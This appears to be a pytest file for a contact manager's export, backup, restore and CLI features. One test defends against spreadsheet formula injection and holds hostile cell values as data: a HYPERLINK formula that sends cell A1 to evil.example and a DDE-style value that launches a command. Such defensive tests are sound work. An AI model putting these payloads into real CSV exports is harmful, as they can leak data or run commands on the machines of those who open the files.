"""Export (CSV, vCard 4.0, JSON backup) and restore, on SQLite and PostgreSQL; the CLI."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import anyio
import pytest
import vobject
from sqlalchemy import func, select

from server import exporters, importers
from server.demo import load_seed
from server.models import Store
from tests.conftest import make_account, unavailable
from tests.synckit import Device, uid
from tests.test_cli import run, run_json
from tests.test_import import GOOGLE, LINKEDIN, SEEDS, VCARD, Imports

ROOT = Path(__file__).resolve().parent.parent


async def _store(engine) -> Imports:
    account = await make_account(engine)
    store = Imports(engine, account.store_id, account.device_id)
    store.user_id = account.user_id
    return store


@pytest.fixture
async def target(engine) -> Imports:
    return await _store(engine)


async def _export(store: Imports, fmt: str, table: str = "people") -> bytes:
    async with store.engine.connect() as conn:
        return await exporters.export(conn, store.store_id, fmt, table)


def _people(records: dict[str, list[dict[str, Any]]]) -> dict[str, dict[str, Any]]:
    """People by name, with the organization's name in place of its id."""
    orgs = {o["id"]: o["fields"]["name"] for o in records["organization"]}
    out = {}
    for p in records["person"]:
        fields = dict(p["fields"])
        fields["organization_id"] = orgs.get(fields["organization_id"])
        out[fields["name"]] = fields
    return out


async def _records(store: Imports) -> dict[str, list[dict[str, Any]]]:
    async with store.engine.connect() as conn:
        return await exporters.live_records(conn, store.store_id)


async def test_backup_restore_backup_is_byte_identical_but_for_the_store_id(target):
    await load_seed(target.engine, target.store_id, target.user_id)
    await target.run("linkedin", LINKEDIN)
    await target.run("vcard", VCARD)
    # An open conflict is part of the store too.
    phone, laptop = Device("c-phone"), Device("c-laptop")
    dana_id, _ = await target.person("Dana Ortiz")
    version = (await target.one(dana_id))["version"]
    await target.apply(phone, phone.set("person", dana_id, version, title="A"))
    await target.apply(laptop, laptop.set("person", dana_id, version, title="B"))
    assert await target.conflicts()
    first = await _export(target, "json")
    restored = await exporters.restore(target.engine, target.user_id, first)
    assert restored["store_id"] != target.store_id
    async with target.engine.connect() as conn:
        second = await exporters.backup(conn, restored["store_id"])
    assert second == first.replace(target.store_id.encode(), restored["store_id"].encode())
    document = json.loads(first)
    assert document["format"] == "grapevine-backup"
    assert document["version"] == 1
    counts = {entity: len(items) for entity, items in document["records"].items()}
    assert all(counts[e] > 0 for e in ("organization", "person", "conversation", "followup"))
    assert counts["referral"] > 0 and counts["conflict"] > 0
    assert restored["records"] == sum(counts.values())


async def test_a_restored_store_takes_edits_and_merges_like_any_other(target, engine):
    await target.run("linkedin", LINKEDIN)
    restored = await exporters.restore(engine, target.user_id, await _export(target, "json"))
    copy = Imports(engine, restored["store_id"], target.device_id)
    copy.user_id = target.user_id
    summary = await copy.run("linkedin", LINKEDIN)  # the same people, matched
    assert summary["people"]["created"] == 0


async def test_import_export_import_loses_nothing_and_duplicates_nothing(engine):
    source = await _store(engine)
    for fmt, data in (("linkedin", LINKEDIN), ("vcard", VCARD), ("csv", GOOGLE)):
        await source.run(fmt, data)
    exported = await _export(source, "csv", "people")
    again = await source.run("csv", exported)
    assert again["people"]["created"] == 0
    assert again["mutations"] == 0
    fresh = await _store(engine)
    summary = await fresh.run("csv", exported)
    assert summary["refused"] == []
    want, got = _people(await _records(source)), _people(await _records(fresh))
    assert got == want
    assert (await fresh.run("csv", exported))["people"]["created"] == 0


async def test_vcard_export_reads_back_with_vobject_and_reimports_whole(engine):
    source = await _store(engine)
    await source.run("vcard", VCARD)
    await source.run("linkedin", LINKEDIN)
    text = (await _export(source, "vcard")).decode()
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    cards = list(vobject.readComponents(text))
    people = _people(await _records(source))
    assert len(cards) == len(people)
    by_name = {c.fn.value: c for c in cards}
    dana = by_name["Dana Ortiz"]
    assert dana.version.value == "4.0"
    assert dana.org.value == ["Acme, Inc.", "Platform", "SRE"]
    assert sorted(e.value for e in dana.email_list) == people["Dana Ortiz"]["emails"]
    assert dana.note.value == people["Dana Ortiz"]["notes"]
    fresh = await _store(engine)
    summary = await fresh.run("vcard", text)
    assert summary["refused"] == []
    kept = ("name", "organization_id", "title", "department", "emails", "phones")
    kept += ("linkedin_url", "tags", "notes")
    got = _people(await _records(fresh))
    assert {n: {k: p[k] for k in kept} for n, p in got.items()} == {
        n: {k: p[k] for k in kept} for n, p in people.items()
    }


async def test_the_demo_network_holds_no_conflict_a_new_user_did_not_make(target):
    """A first sign-in to `serve --demo` shows no conflicts badge: the seed edits from two
    devices touch different things, and every one of them is applied."""
    applied = await load_seed(target.engine, target.store_id, target.user_id)
    assert applied > 30
    assert await target.conflicts() == []
    assert await target.conflicts("resolved") == []


async def test_csv_tables_name_what_their_references_point_to(target):
    await load_seed(target.engine, target.store_id, target.user_id)
    records = await _records(target)
    names = {r["id"]: r["fields"]["name"] for r in records["person"]}
    rows = list(
        csv.DictReader(io.StringIO((await _export(target, "csv", "conversations")).decode()))
    )
    assert len(rows) == len(records["conversation"])
    assert all(row["person"] == names[row["person_id"]] for row in rows)
    followups = (await _export(target, "csv", "followups")).decode()
    assert followups.startswith("id,person,person_id,organization,organization_id,due,")
    orgs = list(
        csv.DictReader(io.StringIO((await _export(target, "csv", "organizations")).decode()))
    )
    assert {r["name"] for r in orgs} == {o["fields"]["name"] for o in records["organization"]}


async def test_a_csv_export_never_hands_a_spreadsheet_a_formula(target):
    """A name or title that reads as a formula (imported from anyone's profile) gets a
    leading apostrophe; importing the export takes it off; phone numbers stay as they are."""
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "title": "@SUM(1+1)",
        "department": "+cmd|' /C calc'!A0",
        "phones": ["+1 555 0100 x23", "-5"],
    }
    phone = Device("c-phone")
    await target.apply(phone, phone.set("person", uid(), 0, **hostile))
    exported = (await _export(target, "csv", "people")).decode()
    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["name"] == "'" + hostile["name"]
    assert row["title"] == "'@SUM(1+1)" and row["department"] == "'+cmd|' /C calc'!A0"
    assert row["phones"] == "+1 555 0100 x23; -5"
    again = await make_account(target.engine)
    await importers.import_file(target.engine, again.store_id, again.user_id, "csv", exported)
    back = Imports(target.engine, again.store_id, again.device_id)
    (person,) = (await back.live("person")).values()
    assert {k: person[k] for k in hostile} == hostile


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"not json", "not JSON"),
        (b'{"format": "other"}', "not a Grapevine backup"),
        (b'{"format": "grapevine-backup", "version": 9}', "version 9"),
        (
            b'{"format": "grapevine-backup", "version": 1, "store": {"name": "x"}, '
            b'"records": {"person": [{"id": "not-a-uuid", "fields": {"name": "A"}}]}}',
            "is not a UUID",
        ),
        (
            b'{"format": "grapevine-backup", "version": 1, "store": {"name": "x"}, '
            b'"records": {"person": [{"id": "0193a0c2-0000-4000-8000-000000000001", '
            b'"fields": {"name": "A", "stage": "hired"}}]}}',
            "person.stage must be one of",
        ),
        (
            b'{"format": "grapevine-backup", "version": 1, "store": {"name": "x"}, '
            b'"records": {"person": [{"id": "0193a0c2-0000-4000-8000-000000000001", '
            b'"fields": {"title": "no name"}}]}}',
            "a person needs name",
        ),
    ],
)
async def test_a_bad_backup_is_refused_and_changes_nothing(target, data, message):
    async with target.engine.connect() as conn:
        before = (await conn.execute(select(func.count()).select_from(Store))).scalar_one()
    with pytest.raises(exporters.BackupError, match=message):
        await exporters.restore(target.engine, target.user_id, data)
    async with target.engine.connect() as conn:
        after = (await conn.execute(select(func.count()).select_from(Store))).scalar_one()
    assert after == before


# ----- the CLI (SQLite file, as a person would use it) ------------------------------------


def test_cli_import_export_restore(tmp_path: Path):
    database = str(tmp_path / "cli.db")
    user = run_json("user", "add", "--email", "ana@example.com", database=database)
    linkedin = str(SEEDS / "linkedin-connections.csv")
    preview = run_json(
        "import", "linkedin", linkedin, "--email", "ana@example.com", "--dry-run",
        database=database,
    )  # fmt: skip
    assert preview["dry_run"] is True
    assert preview["people"]["created"] == 6
    done = run_json("import", "linkedin", linkedin, "--email", "ana@example.com", database=database)
    assert done["store_id"] == user["store_id"]
    assert done["people"]["created"] == 6
    assert done["refused"] == [{"row": "line 9", "reason": "no first or last name"}]
    again = run("import", "linkedin", linkedin, "--email", "ana@example.com", database=database)
    assert "people: 0 created, 0 updated, 6 unchanged" in again.stdout
    assert "refused line 9: no first or last name" in again.stdout

    people = run("export", "csv", "--email", "ana@example.com", database=database)
    assert people.returncode == 0, people.stderr
    assert people.stdout.splitlines()[0].startswith("id,name,organization,")
    assert "José Núñez-García" in people.stdout
    vcf = run("export", "vcard", "--email", "ana@example.com", database=database)
    assert vcf.stdout.count("BEGIN:VCARD") == 6
    backup = tmp_path / "backup.json"
    out = run(
        "export", "json", "--email", "ana@example.com", "--output", str(backup),
        database=database,
    )  # fmt: skip
    assert out.returncode == 0 and out.stdout == ""
    restored = run_json("restore", str(backup), "--email", "ana@example.com", database=database)
    assert restored["store_id"] != user["store_id"]
    assert restored["records"] == 10  # 6 people, 4 organizations
    copy = run(
        "export", "json", "--email", "ana@example.com", "--store", restored["store_id"],
        database=database,
    )  # fmt: skip
    assert copy.stdout.encode() == backup.read_bytes().replace(
        user["store_id"].encode(), restored["store_id"].encode()
    )


def test_cli_errors_are_clear_and_change_nothing(tmp_path: Path):
    database = str(tmp_path / "cli.db")
    run_json("user", "add", "--email", "ana@example.com", database=database)
    bad = tmp_path / "bad.csv"
    bad.write_text("Email\nx@y.example\n")
    result = run("import", "csv", str(bad), "--email", "ana@example.com", database=database)
    assert result.returncode == 2
    assert "no name column" in result.stderr
    missing = run(
        "import", "vcard", str(tmp_path / "nope.vcf"), "--email", "ana@example.com",
        database=database,
    )  # fmt: skip
    assert missing.returncode == 2 and "nope.vcf" in missing.stderr
    nobody = run("export", "csv", "--email", "bob@example.com", database=database)
    assert nobody.returncode == 1 and "no user with email bob@example.com" in nobody.stderr
    bad.write_text('{"format": "grapevine-backup", "version": 2}')
    refused = run("restore", str(bad), "--email", "ana@example.com", database=database)
    assert refused.returncode == 2 and "version 2" in refused.stderr
    stores = run_json("store", "list", "--email", "ana@example.com", database=database)
    assert len(stores["stores"]) == 1
    people = run("export", "csv", "--email", "ana@example.com", database=database)
    assert people.stdout.count("\n") == 1  # the header only


async def test_the_web_apps_offline_backup_is_byte_identical_to_the_servers(target, tmp_path):
    """web/js/exchange.js builds the backup from the records a device pulled: same bytes."""
    node = shutil.which("node")
    if node is None:
        unavailable("node is not installed")
    await load_seed(target.engine, target.store_id, target.user_id)
    await target.run("vcard", VCARD)
    await target.run(
        "csv", "Name,Email,Organization\nDana Ortiz,dana.o@mail.example,Acme Robotics\n"
    )
    ids = [rid for rid, p in (await target.live("person")).items() if p["name"] == "Dana Ortiz"]
    phone = Device("c-phone")
    await target.apply(phone, phone.merge("person", ids[1], ids[0]))  # leaves a tombstone
    pulled = [
        {
            "entity": c.entity,
            "id": c.id,
            "version": c.version,
            "deleted": c.deleted,
            "fields": json.loads(bytes(c.fields)),
        }
        for c in await target.pull_all("c-web")
    ]
    async with target.engine.connect() as conn:
        store = await conn.execute(select(Store.name).where(Store.id == target.store_id))
        name = store.scalar_one()
    pulled_file = tmp_path / "pulled.json"
    pulled_file.write_text(json.dumps(pulled))
    store_json = json.dumps({"id": target.store_id, "name": name})
    script = (
        "import fs from 'node:fs';"
        "import { backupText } from './web/js/exchange.js';"
        f"const rows = JSON.parse(fs.readFileSync({json.dumps(str(pulled_file))}));"
        "const records = new Map(rows.map((r) => [r.id, r]));"
        f"process.stdout.write(backupText(records, {store_json}));"
    )
    result = await anyio.run_process([node, "--input-type=module", "-e", script], cwd=ROOT)
    assert result.stdout == await _export(target, "json")


def test_cli_import_into_a_shared_store_needs_the_right_to_write(tmp_path: Path):
    database = str(tmp_path / "cli.db")
    owner = run_json("user", "add", "--email", "ana@example.com", database=database)
    run_json("user", "add", "--email", "mentor@example.com", database=database)
    store = owner["store_id"]
    run_json(
        "store", "share", store, "--email", "mentor@example.com", "--role", "viewer",
        database=database,
    )  # fmt: skip
    linkedin = str(SEEDS / "linkedin-connections.csv")
    refused = run(
        "import", "linkedin", linkedin, "--email", "mentor@example.com", "--store", store,
        database=database,
    )  # fmt: skip
    assert refused.returncode == 1
    assert f"mentor@example.com can only read store {store}" in refused.stderr
    run_json(
        "store", "share", store, "--email", "mentor@example.com", "--role", "editor",
        database=database,
    )  # fmt: skip
    done = run_json(
        "import", "linkedin", linkedin, "--email", "mentor@example.com", "--store", store,
        database=database,
    )  # fmt: skip
    assert done["people"]["created"] == 6
    # A viewer may still take a copy out.
    run_json(
        "store", "share", store, "--email", "mentor@example.com", "--role", "viewer",
        database=database,
    )  # fmt: skip
    people = run(
        "export", "csv", "--email", "mentor@example.com", "--store", store, database=database
    )
    assert people.returncode == 0, people.stderr
    assert len(people.stdout.splitlines()) == 7  # the header and six people
